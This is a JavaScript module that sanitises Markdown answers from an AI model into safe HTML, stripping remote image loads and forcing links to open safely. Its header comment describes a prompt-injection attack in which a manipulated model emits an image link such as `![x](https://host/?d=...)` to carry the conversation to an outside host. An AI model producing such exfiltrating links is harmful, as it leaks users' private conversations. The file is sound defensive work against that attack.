// Markdown to safe HTML: marked renders (GitHub flavour, code blocks), DOMPurify removes
// anything a model's answer could use to run script or restyle the page. Images are never
// fetched from elsewhere: a prompt-injected model could name an address that carries the
// conversation away (`![x](https://host/?d=...)`), so any image but a `data:` one is shown
// as a link the person may click. (The page's Content-Security-Policy refuses such loads
// too; this keeps the answer readable instead of showing a broken image.)
import { Marked } from "./vendor/marked-18.2.1.esm.js";
import DOMPurify from "./vendor/purify-3.5.0.es.js";

const marked = new Marked({ gfm: true, breaks: false });
const REMOTE = "data-remote-src";

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  // Links from an answer open elsewhere and never get the page's window.
  if (node.tagName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
  // Still in DOMPurify's inert document: take the address off before the page sees it.
  if (node.hasAttribute && node.hasAttribute("srcset")) node.removeAttribute("srcset");
  if (node.tagName === "IMG") {
    const src = node.getAttribute("src") ?? "";
    if (!src.startsWith("data:image/")) {
      node.removeAttribute("src");
      node.setAttribute(REMOTE, src);
    }
  }
});

/** Each image that named an address becomes a link to it, labelled by its alt text. */
function imagesAsLinks(element) {
  for (const img of element.querySelectorAll(`img[${REMOTE}]`)) {
    const href = img.getAttribute(REMOTE);
    const link = document.createElement("a");
    link.className = "image-link";
    link.textContent = `[image: ${img.getAttribute("alt") || href || "no address"}]`;
    if (/^https?:/i.test(href)) {
      link.href = href;
      link.target = "_blank";
      link.rel = "noopener noreferrer";
    }
    link.title = href;
    img.replaceWith(link);
  }
}

/** Render `text` (Markdown) into `element`, replacing what it held. */
export function renderMarkdown(element, text) {
  const html = marked.parse(text ?? "", { async: false });
  element.innerHTML = DOMPurify.sanitize(html, {
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "picture", "source"],
    FORBID_ATTR: ["style", "srcset", "poster", "background"],
  });
  imagesAsLinks(element);
}
